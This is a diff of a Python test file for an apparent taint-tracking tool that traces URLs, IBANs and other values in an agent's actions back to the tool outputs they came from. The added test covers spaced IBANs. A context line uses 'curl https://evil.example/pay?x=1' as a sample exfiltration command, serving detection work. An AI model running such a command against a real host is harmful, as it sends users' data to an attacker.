@@ -105,6 +105,13 @@ def test_tainted_values_by_path() -> None:
     assert tainted_values("curl https://evil.example/pay?x=1", ix) == [((), ["read_inbox"])]
 
 
+def test_a_spaced_iban_inside_a_sentence_is_a_token() -> None:
+    got = set(tokens("please pay DE89 3704 0044 0532 0130 00 before friday"))
+    assert "DE89 3704 0044 0532 0130 00" in got
+    ix = index([("read_inbox", "IBAN: DE89370400440532013000")])
+    assert ix.sources("pay DE89 3704 0044 0532 0130 00 soon") == ["read_inbox"]
+
+
 def test_tokens() -> None:
     got = set(tokens("(see https://a.example/x), mail b@c.example or +1 555 010 9999; DE89 3704 0044 0532 0130 00"))
     assert {"https://a.example/x", "b@c.example", "+1 555 010 9999", "DE89 3704 0044 0532 0130 00"} <= got
